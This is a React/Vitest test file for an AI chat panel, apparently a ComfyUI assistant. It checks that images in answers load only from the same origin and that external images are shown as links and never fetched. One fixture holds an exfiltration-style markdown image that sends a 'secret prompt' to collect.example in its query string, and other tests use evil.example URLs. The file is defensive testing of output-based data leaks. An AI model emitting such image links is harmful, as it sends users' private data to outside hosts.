import "../../test/reactTestEnv";
import { cleanup, fireEvent, render, screen, waitFor } from "@testing-library/react";
import { afterEach, describe, expect, it, vi } from "vitest";
import { ChatStore } from "../runtime/chatStore";
import { fakeServer, sseResponse, textAnswer } from "../../test/fakeServer";
import { setLocale } from "../i18n";
import { loadsHere, MarkdownImage } from "./MarkdownImage";
import { Panel } from "./Panel";

afterEach(() => {
  cleanup();
  vi.unstubAllGlobals();
});

const ANSWER =
  "Done. ![the result](https://collect.example/p.png?d=my%20secret%20prompt) and ![ours](/api/view?filename=a.png&type=output)";

describe("a picture in an answer", () => {
  it("loads from this ComfyUI only; a picture elsewhere is a link, never fetched by the page", async () => {
    const server = fakeServer(() => sseResponse(textAnswer(ANSWER)));
    vi.stubGlobal("fetch", server.fetch);
    const store = new ChatStore({ settings: { maxSteps: 25, debugContext: false }, rememberThread: false });
    const { container } = render(<Panel store={store} />);
    const box = await screen.findByLabelText<HTMLTextAreaElement>("Message");
    fireEvent.change(box, { target: { value: "make it" } });
    await waitFor(() => expect(box.value).toBe("make it"));
    fireEvent.click(screen.getByRole("button", { name: "Send" }));
    const link = await screen.findByRole("link", { name: /the result \(collect\.example, not loaded\)/ });
    expect(link.getAttribute("href")).toBe("https://collect.example/p.png?d=my%20secret%20prompt");
    const images = [...container.querySelectorAll(".cua-md img")].map((img) => img.getAttribute("src"));
    expect(images).toEqual(["/api/view?filename=a.png&type=output"]);
  });

  it("says in the user's language that a picture elsewhere was not loaded", () => {
    setLocale("zh");
    try {
      render(<MarkdownImage src="https://collect.example/p.png" alt="结果" />);
      expect(screen.getByRole("link", { name: "🖼 结果（collect.example，未加载）" }).getAttribute("title")).toBe(
        "https://collect.example/p.png — 未加载：它位于 collect.example",
      );
    } finally {
      setLocale("en");
    }
  });

  it("is loaded by the page only from its own origin, data: or blob:", () => {
    const base = "http://127.0.0.1:8188/";
    expect(loadsHere("/view?filename=x.png", base)).toBe(true);
    expect(loadsHere("http://127.0.0.1:8188/api/view?x", base)).toBe(true);
    expect(loadsHere("data:image/png;base64,AAAA", base)).toBe(true);
    expect(loadsHere("http://127.0.0.1:8189/x.png", base)).toBe(false);
    expect(loadsHere("//evil.example/x.png", base)).toBe(false);
    expect(loadsHere("https://evil.example/x.png", base)).toBe(false);
  });
});
